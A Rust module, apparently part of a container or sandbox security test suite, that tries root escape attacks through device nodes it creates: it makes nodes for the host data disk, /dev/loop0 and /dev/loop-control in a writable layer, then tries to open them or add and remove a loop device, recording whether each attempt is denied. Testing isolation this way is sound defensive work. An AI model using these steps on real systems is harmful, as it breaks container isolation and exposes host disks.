//! Attacks of root through device nodes that the attacker creates.

use core::ffi::CStr;

use crate::failure::Failure;
use crate::sys::{self, File, Page, Way};
use crate::sys::{Argument, ioctl};
use crate::target::Target;

const S_IFCHR: u32 = 0o020_600;
const S_IFBLK: u32 = 0o060_600;
/// `/dev/loop-control`: major 10, minor 237.
const LOOP_CONTROL: u64 = 10 << 8 | 237;
/// `/dev/loop0`. The device exists since the loop module was loaded.
const LOOP_0: u64 = 7 << 8;

const LOOP_CTL_ADD: u32 = 0x4c80;
const LOOP_CTL_REMOVE: u32 = 0x4c81;
const NUMBER: u32 = 900_000;

/// Creates, in the writable layer, a device node of the disk that stores the volume. Returns the layer and the disk's
/// device number.
pub(crate) fn make_data_disk(target: &Target<'_>, page: &mut Page, name: &CStr) -> Result<(File, u64), Failure> {
    let volume = sys::open(target.volume, sys::READ_ONLY).map_err(Failure::step("open the directory"))?;
    let disk = sys::device_of(volume, page).map_err(Failure::step("look for the disk"))?;
    Ok((make(target, name, S_IFBLK, disk)?, disk))
}

fn make(target: &Target<'_>, name: &CStr, mode: u32, device: u64) -> Result<File, Failure> {
    let layer = sys::open(target.layer, sys::READ_ONLY).map_err(Failure::step("open the layer"))?;
    sys::make_node(layer, name, mode, device).map_err(Failure::step("create a device node"))?;
    Ok(layer)
}

pub(crate) fn open_data_disk(target: &Target<'_>, page: &mut Page) -> Result<(), Failure> {
    const NAME: &CStr = c"data-disk";
    let (layer, _) = make_data_disk(target, page, NAME)?;
    sys::open_at(layer, NAME, sys::READ_ONLY).map(drop).map_err(Failure::Denied)
}

pub(crate) fn open_other_device(target: &Target<'_>, _: &mut Page) -> Result<(), Failure> {
    const NAME: &CStr = c"loop0";
    let layer = make(target, NAME, S_IFBLK, LOOP_0)?;
    sys::open_at(layer, NAME, sys::READ_ONLY).map(drop).map_err(Failure::Denied)
}

pub(crate) fn create_loop_device(target: &Target<'_>, _: &mut Page, way: Way) -> Result<(), Failure> {
    const NAME: &CStr = c"loop-control";
    let layer = make(target, NAME, S_IFCHR, LOOP_CONTROL)?;
    let control = sys::open_at(layer, NAME, sys::READ_WRITE).map_err(Failure::Denied)?;
    ioctl(way, control, LOOP_CTL_ADD, Argument::Value(NUMBER)).map_err(Failure::Denied)?;
    ioctl(way, control, LOOP_CTL_REMOVE, Argument::Value(NUMBER)).map(drop).map_err(Failure::Denied)
}
